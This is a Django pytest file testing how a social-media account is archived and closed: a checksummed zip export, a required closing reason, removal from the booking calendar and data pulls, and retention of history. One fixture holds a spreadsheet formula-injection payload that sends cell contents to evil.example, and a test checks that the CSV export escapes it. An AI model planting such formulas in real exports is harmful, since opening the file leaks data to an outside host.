"""Closing an account: the archive copy first (posts, figures, moderation log; SHA-256 shown and
stored), then the decision; a closed account leaves the calendar and the pulls, its history stays."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import UTC, date, datetime

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from calendar_booking.selectors import bookable_accounts
from metrics.models import AccountArchive, MetricSnapshot, MonthlyRollup
from moderation.ingest import comments_ingest
from moderation.models import Comment, ModerationLogEntry
from platforms.models import PlatformPost
from platforms.selectors import pullable_account_ids
from tests.calendar_booking.helpers import book
from tests.moderation.helpers import remote

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1, "Klicka")'
AT = datetime(2026, 11, 20, 9, tzinfo=UTC)


@pytest.fixture
def history(account, akn_user):
    """An account with a post (its text a spreadsheet formula), figures and a moderated comment."""
    account.platform = "demo"
    account.save()
    PlatformPost.objects.create(account=account, platform_id="p1", created_at=AT, text=EVIL)
    MetricSnapshot.objects.create(
        account=account, day=date(2026, 11, 20), metric_set="account_day", followers=1200
    )
    MonthlyRollup.objects.create(account=account, month=date(2026, 11, 1), followers=1200, computed_at=AT)
    comments_ingest(
        account=account, items=[remote("c1", "När öppnar simhallen?", author_name="Anna Andersson")]
    )
    comment = Comment.objects.get(platform_id="c1")
    ModerationLogEntry.objects.create(comment_id=comment.pk, actor=akn_user, action="hide", rule="spam")
    return account


def _files(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as bundle:
        return {name: bundle.read(name) for name in bundle.namelist()}


def test_the_archive_copy_holds_posts_figures_and_log_with_a_hash_anyone_can_recompute(akn_client, history):
    response = akn_client.post(reverse("metrics:account-archive-make", args=[history.pk]))
    assert response.status_code == 302
    archive = AccountArchive.objects.get(account=history)
    page = akn_client.get(reverse("metrics:account-close", args=[history.pk])).content.decode()
    assert archive.sha256 in page

    download = akn_client.get(reverse("metrics:archive-download", args=[archive.pk]))
    content = download.content
    assert download["Content-Type"] == "application/zip"
    assert hashlib.sha256(content).hexdigest() == archive.sha256 == download["X-Checksum-SHA256"]
    assert archive.size == len(content)

    files = _files(content)
    manifest = json.loads(files.pop("manifest.json"))
    assert manifest["account"]["name"] == history.name
    assert manifest["counts"] == {
        "posts": 1, "figures_monthly": 1, "figures_daily": 1, "comments": 1, "moderation_log": 1,
    }  # fmt: skip
    assert set(manifest["files"]) == set(files)
    for name, data in files.items():
        assert hashlib.sha256(data).hexdigest() == manifest["files"][name], name

    posts = list(csv.DictReader(io.StringIO(files["posts.csv"].decode("utf-8-sig"))))
    assert posts[0]["text"] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert json.loads(files["posts.json"])[0]["text"] == EVIL  # the data itself is kept as it was
    log = list(csv.DictReader(io.StringIO(files["moderation_log.csv"].decode("utf-8-sig"))))
    assert log[0]["action"] == "hide" and log[0]["rule"] == "spam"
    everything = b"".join(files.values()).decode("utf-8")
    assert "När öppnar simhallen?" in everything
    assert "Anna Andersson" not in everything  # the commenters' names stay out of the copy


def test_an_account_is_closed_only_after_its_archive_copy_and_with_a_reason(akn_client, akn_user, history):
    url = reverse("metrics:account-close-confirm", args=[history.pk])
    data = {"closed_on": "2026-12-01", "reason": "Verksamheten använder stadens konto."}
    response = akn_client.post(url, data)
    assert response.status_code == 400
    assert "Gör arkivkopian innan kontot avslutas." in response.content.decode()
    history.refresh_from_db()
    assert not history.is_closed

    akn_client.post(reverse("metrics:account-archive-make", args=[history.pk]))
    assert akn_client.post(url, {**data, "reason": ""}).status_code == 400
    assert akn_client.post(url, data).status_code == 302
    history.refresh_from_db()
    assert history.closed_on == date(2026, 12, 1) and history.closed_by == akn_user
    assert history.closed_reason == data["reason"] and not history.in_register


def test_a_closed_account_leaves_the_calendar_and_the_pulls_but_keeps_its_history(
    akn_client, history, administration, communicator
):
    assert history.pk in pullable_account_ids()
    assert history in bookable_accounts([administration.pk])
    akn_client.post(reverse("metrics:account-archive-make", args=[history.pk]))
    akn_client.post(
        reverse("metrics:account-close-confirm", args=[history.pk]),
        {"closed_on": "2026-12-01", "reason": "Slås ihop med stadens konto."},
    )
    assert history.pk not in pullable_account_ids()
    assert history not in bookable_accounts([administration.pk])
    with pytest.raises(ValidationError) as refused:
        book(communicator, administration, (history, "2026-12-15 10:00"))
    assert "account_not_bookable" in {error.code for error in refused.value.error_list}
    # The history stays: posts, figures, comments and the log are all still there and shown.
    assert PlatformPost.objects.filter(account=history).count() == 1
    assert MonthlyRollup.objects.filter(account=history).count() == 1
    assert Comment.objects.filter(account=history).count() == 1
    page = akn_client.get(reverse("accounts:account-detail", args=[history.pk])).content.decode()
    assert "Kontot avslutades 2026-12-01." in page
